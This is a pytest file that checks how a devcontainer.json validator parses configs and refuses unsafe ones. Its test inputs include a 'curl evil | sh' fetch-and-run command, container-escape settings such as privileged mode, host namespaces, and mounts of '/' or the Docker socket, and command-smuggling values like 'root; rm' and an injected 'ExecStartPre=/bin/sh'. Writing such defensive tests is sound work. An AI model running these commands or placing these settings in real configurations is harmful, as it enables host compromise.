"""Reading and judging a repository's devcontainer.json: JSONC, variables, discovery, refusals, merging."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from devbox.devcontainer import discover, mapping
from devbox.devcontainer.model import BuiltImage, DevcontainerConfig, NamedCommands
from devbox.devcontainer.read import Variables, load, parse_jsonc, substitute
from devbox.devcontainer.validate import check
from devbox.errors import DevboxError, ExitCode

FILE = Path("/w/.devcontainer/devcontainer.json")
VARS = Variables("/w", "/home/dev/w", "id123", local_env={"USER": "dev"}.get)


def judge(text: str, workspace: Path | None = None) -> DevcontainerConfig:
    return check(substitute(parse_jsonc(text, FILE), VARS), workspace)


def refusal(text: str, workspace: Path | None = None) -> str:
    with pytest.raises(DevboxError) as caught:
        judge(text, workspace)
    assert caught.value.code == ExitCode.INVALID_INPUT
    assert "\n" not in caught.value.message
    return caught.value.message


# --- JSONC ---------------------------------------------------------------------------------------


def test_comments_and_trailing_commas_are_read() -> None:
    text = """// leading comment
    {
      /* block
         comment */ "image": "debian:trixie", // after a value
      "containerEnv": {"URL": "http://x//y", "C": "/* not a comment */",},
      "forwardPorts": [3000, 4000,],
    }
    """
    document = parse_jsonc(text, FILE)
    assert document.value == {
        "image": "debian:trixie",
        "containerEnv": {"URL": "http://x//y", "C": "/* not a comment */"},
        "forwardPorts": [3000, 4000],
    }
    assert document.lines[("forwardPorts",)] == 6
    assert document.where(("containerEnv", "C")) == f"{FILE}:5"


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ('{\n  "a": 1\n  "b": 2\n}', 3, "expected ',' or '}'"),
        ('{\n  "a": [1,, 2]\n}', 2, "unexpected ','"),
        ("{\n  /* open\n", 2, "a comment that never ends"),
        ("{\n  'a': 1\n}", 2, "expected a quoted key"),
        ('{"a": 1} {"b": 2}', 1, "more after the end"),
        ('{"a": "\x01"}', 1, "a bad string"),
        ("[1, 2]", 1, "holds one object"),
    ],
)
def test_broken_jsonc_names_file_and_line(text: str, line: int, words: str) -> None:
    with pytest.raises(DevboxError) as caught:
        parse_jsonc(text, FILE)
    assert caught.value.message.startswith(f"{FILE}:{line}: ")
    assert words in caught.value.message


def test_a_file_that_is_not_utf8_or_too_large_is_refused(tmp_path: Path) -> None:
    bad = tmp_path / "devcontainer.json"
    bad.write_bytes(b'{"a": "\xff"}')
    with pytest.raises(DevboxError, match="not UTF-8"):
        load(bad)
    bad.write_text('{"a": "' + "x" * (1024 * 1024) + '"}')
    with pytest.raises(DevboxError, match="larger than"):
        load(bad)


# --- variables -----------------------------------------------------------------------------------


def test_variables_are_substituted() -> None:
    config = judge(
        """{
        "containerEnv": {
          "A": "${localWorkspaceFolder}|${localWorkspaceFolderBasename}",
          "B": "${containerWorkspaceFolder}|${containerWorkspaceFolderBasename}",
          "C": "${localEnv:USER}|${localEnv:NOPE}|${localEnv:NOPE:fallback}|${env:USER}",
          "D": "${devcontainerId}",
        },
        "remoteEnv": {"PATH": "${containerEnv:PATH}:/x", "E": "${containerEnv:EDITOR:vi}"},
        }"""
    )
    assert dict(config.container_env) == {
        "A": "/w|w",
        "B": "/home/dev/w|w",
        "C": "dev||fallback|dev",
        "D": "id123",
    }
    # The drone's own environment: left for its init to expand.
    assert dict(config.remote_env) == {"PATH": "${PATH}:/x", "E": "${EDITOR:-vi}"}


@pytest.mark.parametrize(
    "value", ["${PATH}", "${unknownVariable}", "${localEnv}", "${containerEnv:HOME}", "${ localWorkspaceFolder}"]
)
def test_an_unknown_variable_names_file_and_line(value: str) -> None:
    message = refusal('{\n\n  "containerEnv": {"X": "' + value + '"}\n}')
    assert message == f"{FILE}:3: unknown variable {value!r}"


# --- discovery -----------------------------------------------------------------------------------


def write(path: Path, text: str = "{}") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_discovery_finds_the_three_places(tmp_path: Path) -> None:
    assert discover.choose(tmp_path, None) is None
    write(tmp_path / ".devcontainer.json")
    assert discover.choose(tmp_path, None) == ".devcontainer.json"
    write(tmp_path / ".devcontainer/devcontainer.json")
    write(tmp_path / ".devcontainer/python/devcontainer.json")
    write(tmp_path / ".devcontainer/bad name/devcontainer.json")  # not a plain name: never a candidate
    assert discover.candidates(tmp_path) == [
        ".devcontainer/devcontainer.json",
        ".devcontainer.json",
        ".devcontainer/python/devcontainer.json",
    ]


def test_several_configurations_and_none_chosen_is_one_error_listing_them(tmp_path: Path) -> None:
    write(tmp_path / ".devcontainer/node/devcontainer.json")
    write(tmp_path / ".devcontainer/python/devcontainer.json")
    with pytest.raises(DevboxError) as caught:
        discover.choose(tmp_path, None)
    assert caught.value.code == ExitCode.INVALID_INPUT
    assert caught.value.message == (
        f"{tmp_path} has several devcontainer.json files (.devcontainer/node/devcontainer.json, "
        ".devcontainer/python/devcontainer.json): choose one with --devcontainer"
    )
    assert discover.choose(tmp_path, "python") == ".devcontainer/python/devcontainer.json"
    assert discover.choose(tmp_path, ".devcontainer/node/devcontainer.json") == ".devcontainer/node/devcontainer.json"
    for wanted in ("ruby", "../x.json", "/etc/x.json"):
        with pytest.raises(DevboxError):
            discover.choose(tmp_path, wanted)


def test_a_config_or_build_context_outside_the_workspace_is_refused(tmp_path: Path) -> None:
    workspace = tmp_path / "repo"
    secret = write(tmp_path / "secret.json", '{"image": "x"}')
    (workspace / ".devcontainer").mkdir(parents=True)
    (workspace / ".devcontainer/devcontainer.json").symlink_to(secret)
    with pytest.raises(DevboxError, match="outside the workspace"):
        discover.inside(workspace, workspace / ".devcontainer/devcontainer.json", "the devcontainer.json")
    config = write(workspace / ".devcontainer.json", '{"build": {"dockerfile": "D", "context": "../.."}}')
    document = parse_jsonc(config.read_text(), config)
    with pytest.raises(DevboxError, match="the build context .* is outside the workspace"):
        discover.source(workspace, ".devcontainer.json", document)
    ok = parse_jsonc('{"build": {"dockerfile": ".devcontainer/D", "context": "."}}', config)
    source = discover.source(workspace, ".devcontainer.json", ok)
    assert (source.workspace, source.context_dir) == (workspace.resolve(), workspace.resolve())


# --- what is accepted ------------------------------------------------------------------------------


def test_a_full_configuration_is_read(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    config = judge(
        """{
        "image": "mcr.microsoft.com/devcontainers/base:bookworm",
        "containerEnv": {"A": "1"},
        "remoteUser": "vscode", "containerUser": "root",
        "mounts": [
          "source=cache,target=/cache,type=volume",
          "type=bind,source=${localWorkspaceFolder}/data,target=/data,readonly",
          {"type": "bind", "source": "data", "target": "/d2"},
        ],
        "workspaceFolder": "/workspaces/w",
        "forwardPorts": [3000, 3000, "8080"], "appPort": ["127.0.0.1:9000:9000", 9001],
        "capAdd": ["SYS_PTRACE", "cap_net_raw"], "securityOpt": ["seccomp=unconfined"], "init": true,
        "hostRequirements": {"cpus": 2, "memory": "4gb", "storage": "32gb"},
        "runArgs": ["--cap-add=SYS_NICE", "--env", "B=2", "-e", "C=3", "--init", "-v", "vol2:/v2:ro",
                    "--security-opt", "no-new-privileges"],
        "postCreateCommand": {"a": "make", "b": ["npm", "ci"]},
        "postStartCommand": "echo hi",
        }""".replace("${localWorkspaceFolder}", str(tmp_path)),
        tmp_path,
    )
    assert config.image == "mcr.microsoft.com/devcontainers/base:bookworm"
    assert dict(config.container_env) == {"A": "1", "B": "2", "C": "3"}
    assert (config.remote_user, config.container_user) == ("vscode", "root")
    assert [(m.kind, m.source, m.target, m.readonly) for m in config.mounts] == [
        ("volume", "cache", "/cache", False),
        ("bind", str(tmp_path / "data"), "/data", True),
        ("bind", str(tmp_path / "data"), "/d2", False),
        ("volume", "vol2", "/v2", True),
    ]
    assert config.workspace_folder == "/workspaces/w"
    assert config.ports == (3000, 8080, 9000, 9001)
    assert config.cap_add == ("SYS_PTRACE", "NET_RAW", "SYS_NICE")
    assert config.security_opt == ("seccomp=unconfined", "no-new-privileges")
    assert (config.init, config.cpus, config.memory) == (True, 2.0, "4g")
    assert dict(config.hooks) == {
        "postCreateCommand": NamedCommands((("a", "make"), ("b", ("npm", "ci")))),
        "postStartCommand": "echo hi",
    }


def test_initialize_command_is_never_run_and_says_so() -> None:
    config = judge('{\n  "initializeCommand": "curl evil | sh",\n  "someFutureKey": 1\n}')
    assert config.notes == (
        f"{FILE}:3: someFutureKey is not used by devbox",
        f"{FILE}:2: initializeCommand is never run (nothing from a repository runs on this host)",
    )


# --- what is refused, one line each ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("fragment", "words"),
    [
        ('"privileged": true', "privileged containers are refused"),
        ('"dockerComposeFile": "compose.yml", "service": "app"', "docker compose configurations are taken from a workspace only"),
        ('"runArgs": ["--privileged"]', "runArgs --privileged: privileged containers are refused"),
        ('"runArgs": ["--network=host"]', "runArgs --network=host: the host's network is refused"),
        ('"runArgs": ["--net", "host"]', "runArgs --net=host: the host's network is refused"),
        ('"runArgs": ["--pid=host"]', "runArgs --pid=host: the host's processes is refused"),
        ('"runArgs": ["--ipc=host"]', "the host's IPC is refused"),
        ('"runArgs": ["--userns=host"]', "the host's users is refused"),
        ('"runArgs": ["--network=bridge"]', "devbox chooses the drone's namespaces"),
        ('"runArgs": ["--device=/dev/kvm"]', "runArgs --device: devices are refused"),
        ('"runArgs": ["--gpus", "all"]', "devices are refused"),
        ('"runArgs": ["--label", "io.devbox.repos=evil/x"]', "labels are devbox's own record"),
        ('"runArgs": ["--cap-add=SYS_ADMIN"]', "capability SYS_ADMIN is refused"),
        ('"runArgs": ["--security-opt=label=disable"]', "securityOpt 'label=disable' is refused"),
        ('"runArgs": ["--volume=/etc:/host-etc"]', "bind mount source '/etc' is outside the workspace"),
        ('"runArgs": ["-v", "/:/host:rw"]', "outside the workspace"),
        ('"runArgs": ["--add-host=x:1.2.3.4"]', "runArgs option --add-host is not supported"),
        ('"runArgs": ["--cap-add"]', "runArgs option --cap-add needs a value"),
        ('"capAdd": ["SYS_ADMIN"]', "capability SYS_ADMIN is refused"),
        ('"capAdd": ["NET_ADMIN"]', "capability NET_ADMIN is refused"),
        ('"capAdd": ["ALL"]', "capability ALL is refused"),
        ('"securityOpt": ["label=disable"]', "securityOpt 'label=disable' is refused"),
        ('"securityOpt": ["apparmor=unconfined"]', "securityOpt 'apparmor=unconfined' is refused"),
        ('"mounts": ["source=/etc,target=/x,type=bind"]', "bind mount source '/etc' is outside the workspace"),
        ('"mounts": ["source=../..,target=/x,type=bind"]', "is outside the workspace"),
        ('"mounts": ["source=x,target=/tmp/x,type=tmpfs"]', "mount type 'tmpfs' is refused"),
        ('"mounts": ["source=/var/run/docker.sock,target=/s,type=bind"]', "outside the workspace"),
        ('"mounts": ["source=v,target=/etc/devbox,type=volume"]', "covers devbox's own files"),
        ('"mounts": ["source=v,target=/run,type=volume"]', "covers devbox's own files"),
        ('"mounts": ["source=v,target=/,type=volume"]', "must be an absolute path"),
        ('"mounts": ["source=v w,target=/x,type=volume"]', "volume name 'v w'"),
        ('"mounts": ["source=v,target=relative,type=volume"]', "must be an absolute path"),
        ('"mounts": [{"source": "v"}]', "a mount needs a source and a target"),
        ('"workspaceMount": "source=/home,target=/w,type=bind"', "outside the workspace"),
        ('"containerEnv": {"DEVBOX_DRONE": "other"}', "names starting with DEVBOX_ are devbox's own"),
        ('"containerEnv": {"1X": "a"}', "invalid environment variable name '1X'"),
        ('"containerEnv": {"X": "a\\nExecStartPre=/bin/sh"}', "newlines, control characters, invisible characters"),
        ('"containerEnv": {"X": 1}', "containerEnv.X must be a string"),
        ('"remoteEnv": {"X": "\\u001b[31m"}', "control characters"),
        ('"features": {"ghcr.io/x/y:1": {"opt": "a\\rb"}}', "control characters"),
        ('"postCreateCommand": ["ok", "a\\u0000b"]', "control characters"),
        ('"forwardPorts": ["db:5432"]', "forwardPorts takes port numbers; 'db:5432' is refused"),
        ('"forwardPorts": [70000]', "invalid port 70000"),
        ('"forwardPorts": [true]', "forwardPorts takes port numbers"),
        ('"remoteUser": "root; rm"', "remoteUser 'root; rm' is not a user name"),
        ('"image": "a b"', "invalid image reference"),
        ('"hostRequirements": {"memory": "lots"}', "hostRequirements.memory 'lots' is not a size"),
        ('"hostRequirements": {"cpus": -1}', "hostRequirements.cpus must be a number"),
        ('"init": "yes"', "init must be true or false"),
        ('"postStartCommand": 5', "postStartCommand must be a string or a list"),
    ],
)
def test_every_refusal_is_one_line_with_file_and_line(tmp_path: Path, fragment: str, words: str) -> None:
    message = refusal("{\n\n" + fragment + "\n}", tmp_path)
    assert message.startswith(f"{FILE}:3: "), message
    assert words in message, message


def test_a_bind_mount_needs_a_host_workspace() -> None:
    message = refusal('{"mounts": ["source=${localWorkspaceFolder},target=/w,type=bind"]}', None)
    assert "a bind mount needs a host workspace (devbox create --path); refused for --repo" in message


def test_the_value_validators_are_values_own(monkeypatch: pytest.MonkeyPatch) -> None:
    """Called, not copied: a stricter validate_env_value (the hardening helper's) applies here too."""
    from devbox import values

    def stricter(key: str, value: str) -> str:
        if "\u2028" in value:
            raise values.invalid(f"invalid value for environment variable {key}: U+2028 is not allowed")
        return value

    monkeypatch.setattr(values, "validate_env_value", stricter)
    import devbox.devcontainer.model as model

    monkeypatch.setattr(model, "validate_env_value", stricter)
    assert "U+2028" in refusal('{"containerEnv": {"X": "a\u2028b"}}')


# --- merging with the image's metadata ---------------------------------------------------------------


def built(*metadata: dict[str, object]) -> BuiltImage:
    return BuiltImage("localhost/dc:1", tuple(metadata), "hash", 1001, 1002, "vscode", "/home/vscode")


def test_metadata_first_then_the_file_later_wins_env_merged_hooks_in_order() -> None:
    image = built(
        {"id": "feature-a", "containerEnv": {"A": "feature", "B": "feature"}, "onCreateCommand": "feature-setup"},
        {"remoteUser": "node", "postCreateCommand": "npm ci", "capAdd": ["SYS_PTRACE"]},
    )
    config = judge(
        '{"remoteUser": "vscode", "containerEnv": {"B": "file"}, "postCreateCommand": "npm ci",'
        ' "onCreateCommand": ["make", "setup"], "capAdd": ["SYS_PTRACE", "NET_RAW"]}'
    )
    merged = mapping.merge([*mapping.metadata_configs(image), config])
    assert dict(merged.config.container_env) == {"A": "feature", "B": "file"}
    assert merged.config.remote_user == "vscode"
    assert merged.config.cap_add == ("SYS_PTRACE", "NET_RAW")
    assert merged.hooks["onCreateCommand"] == NamedCommands((("1", "feature-setup"), ("2", ("make", "setup"))))
    assert merged.hooks["postCreateCommand"] == "npm ci"  # the label repeats the file's own entry: once
    hooks = json.loads(mapping.hooks_file(merged, "/home/dev/w", "h4sh"))
    assert hooks == {
        "configHash": "h4sh",
        "remoteUser": "vscode",
        "workspaceFolder": "/home/dev/w",
        "remoteEnv": {},
        "onCreateCommand": {"1": "feature-setup", "2": ["make", "setup"]},
        "updateContentCommand": None,
        "postCreateCommand": "npm ci",
        "postStartCommand": None,
    }
    extras = mapping.extras("d", merged, image, None, "/home/dev/w")
    assert (extras.uid, extras.gid, extras.cap_add) == (1001, 1002, ("SYS_PTRACE", "NET_RAW"))


def test_a_features_metadata_is_judged_like_the_file() -> None:
    image = built({"id": "docker-in-docker", "privileged": True})
    with pytest.raises(DevboxError) as caught:
        mapping.metadata_configs(image)
    assert caught.value.message == (
        "the devcontainer.metadata label of localhost/dc:1, entry 1: privileged containers are refused"
    )
    with pytest.raises(DevboxError, match="capability SYS_ADMIN is refused"):
        mapping.metadata_configs(built({"capAdd": ["SYS_ADMIN"]}))


def test_named_volumes_are_the_drones_own() -> None:
    config = judge('{"mounts": ["source=shared-cache,target=/cache,type=volume"]}')
    extras = mapping.extras("app", mapping.merge([config]), built(), None, "/w")
    assert extras.volumes == ("drone-app-vol-shared-cache:/cache",)


def test_no_user_named_means_no_uid_mapping() -> None:
    image = BuiltImage("localhost/dc:1", (), "hash")
    extras = mapping.extras("d", mapping.merge([judge("{}")]), image, None, "/w")
    assert (extras.uid, extras.gid) == (None, None)


def test_the_hosts_secrets_never_reach_a_drone_through_local_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OP_SERVICE_ACCOUNT_TOKEN", "ops_s3cret")
    monkeypatch.setenv("USER", "dev")
    variables = Variables("/w", "/w", "id")  # the real environment, through read.host_env
    text = '{"containerEnv": {"X": "${localEnv:OP_SERVICE_ACCOUNT_TOKEN}", "Y": "${localEnv:GITHUB_TOKEN:none}",'
    text += ' "U": "${localEnv:USER}"}}'
    document = substitute(parse_jsonc(text, FILE), variables)
    assert document.value["containerEnv"] == {"X": "", "Y": "none", "U": "dev"}


def test_mount_flags_and_codespaces_shorthand() -> None:
    config = judge(
        '{"mounts": ["source=a,target=/a,type=volume,readonly=false", "source=b,target=/b,type=volume,ro"],'
        ' "customizations": {"codespaces": {"repositories": {"acme/x": {"permissions": "write-all"}}}}}'
    )
    assert [m.readonly for m in config.mounts] == [False, True]
    assert config.repositories == ()
    assert config.notes == (f"{FILE}:1: permissions 'write-all' for acme/x are not used",)
